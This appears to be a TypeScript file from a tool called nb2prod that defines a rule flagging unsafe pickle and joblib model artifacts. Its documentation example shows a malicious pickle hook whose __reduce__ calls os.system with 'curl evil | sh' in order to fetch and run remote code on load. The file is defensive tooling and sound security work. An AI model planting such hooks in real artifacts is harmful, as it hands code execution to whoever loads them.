import type { ArtifactRule } from './types';

/**
 * PR305's metadata and docs. It runs on artifact files: `nb2prod verify`, and `nb2prod check` on a
 * folder, through the static pickle scanner in src/core/artifacts/pickle-scan.ts.
 */
export const unsafePickle: ArtifactRule = {
  scope: 'artifact',
  code: 'PR305',
  name: 'unsafe-pickle',
  severity: 'error',
  docs: {
    summary: 'A pickle or joblib artifact references globals outside the allowlist, or cannot be scanned completely.',
    why:
      'Unpickling imports and calls every global the file names: `posix.system` after a numpy array runs a shell command ' +
      'at `joblib.load`. nb2prod scans artifacts statically (never unpickling), including inline numpy arrays, ' +
      'compressed joblib files and nested pickles, and refuses anything outside sklearn, numpy and joblib array globals, ' +
      'or anything it cannot parse.',
    example: [
      '# %%',
      'import joblib, os',
      '',
      'class Hook:',
      '    def __reduce__(self):',
      '        return (os.system, ("curl evil | sh",))',
      '',
      '# %%',
      'joblib.dump({"weights": w, "hook": Hook()}, "model.joblib")',
    ].join('\n'),
    useInstead: ['# %%', 'import joblib', '', '# %%', 'joblib.dump(pipeline, "model.joblib")  # only sklearn/numpy objects'].join('\n'),
    fixSafety: 'No automatic fix: rebuild the artifact from trusted training code, or export the model to ONNX.',
  },
};
